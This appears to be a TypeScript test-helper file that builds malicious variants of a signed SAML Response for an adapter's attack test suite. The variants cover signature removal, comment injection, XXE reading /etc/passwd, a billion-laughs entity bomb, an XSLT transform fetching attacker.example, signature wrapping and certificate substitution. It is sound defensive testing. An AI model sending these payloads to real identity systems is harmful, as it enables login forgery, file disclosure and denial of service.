/**
 * Edits an attacker makes to a Response the upstream signed (or to a stranger's), as reusable
 * functions: the adapter-level suite (test/adapters/saml-bridge/acs-attacks.test.ts) posts each
 * result to a running host. Each takes the signed XML and returns the attack document.
 */
import type { XmlElement as Element } from '../../../../src/xml/index.js';
import { NS_DS, NS_SAML, edit, first, makeEvil } from './upstream-response.js';

const XML_DECLARATION = /^<\?xml[^>]*>\s*/;

function replaceOnce(xml: string, from: string, to: string): string {
  const at = xml.indexOf(from);
  if (at < 0) throw new Error(`attack: ${JSON.stringify(from.slice(0, 60))} is not in the document`);
  return xml.slice(0, at) + to + xml.slice(at + from.length);
}

/** The Assertion's Signature removed; nothing else changed. */
export function withoutAssertionSignature(xml: string): string {
  return edit(xml, (_doc, root) => {
    const sig = first(first(root, NS_SAML, 'Assertion'), NS_DS, 'Signature');
    (sig.parentNode as Element).removeChild(sig);
  });
}

/** `inserted` (a comment, a processing instruction) placed inside the signed text `signed`, after its first `at` characters. */
export function withMarkupInside(xml: string, signed: string, at: number, inserted: string): string {
  return replaceOnce(xml, `>${signed}<`, `>${signed.slice(0, at)}${inserted}${signed.slice(at)}<`);
}

/** A DOCTYPE declaring an external entity (XXE), referenced in place of the text `text`. */
export function withExternalEntity(xml: string, text: string): string {
  const body = replaceOnce(xml.replace(XML_DECLARATION, ''), `>${text}<`, '>&x;<');
  return `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body}`;
}

/** A DOCTYPE with nested entities (billion laughs), the deepest referenced in place of the text `text`. */
export function withEntityExpansion(xml: string, text: string): string {
  const lol =
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
  return lol + replaceOnce(xml.replace(XML_DECLARATION, ''), `>${text}<`, '>&lol3;<');
}

/** An XSLT transform (fetching an attacker's URL) added to the Reference's transforms. */
export function withXsltTransform(xml: string): string {
  const xslt =
    '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">' +
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">' +
    '<xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/x\')"/></xsl:template>' +
    '</xsl:stylesheet></ds:Transform>';
  const c14n = '<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>';
  return replaceOnce(xml, c14n, xslt + c14n);
}

/** An unsigned evil copy carrying the signed Assertion's id, placed before it. */
export function withDuplicateAssertionId(xml: string): string {
  return edit(xml, (_doc, root) => {
    const assertion = first(root, NS_SAML, 'Assertion');
    const copy = assertion.cloneNode(true) as Element;
    copy.removeChild(first(copy, NS_DS, 'Signature'));
    makeEvil(copy);
    root.insertBefore(copy, assertion);
  });
}

/** The first X509Certificate of KeyInfo replaced by `certPem` (a stranger claiming the pinned certificate). */
export function withKeyInfoCertificate(xml: string, certPem: string): string {
  const body = certPem.replace(/-----[^-]+-----|\s/g, '');
  return xml.replace(/<ds:X509Certificate>[\s\S]*?<\/ds:X509Certificate>/, `<ds:X509Certificate>${body}</ds:X509Certificate>`);
}
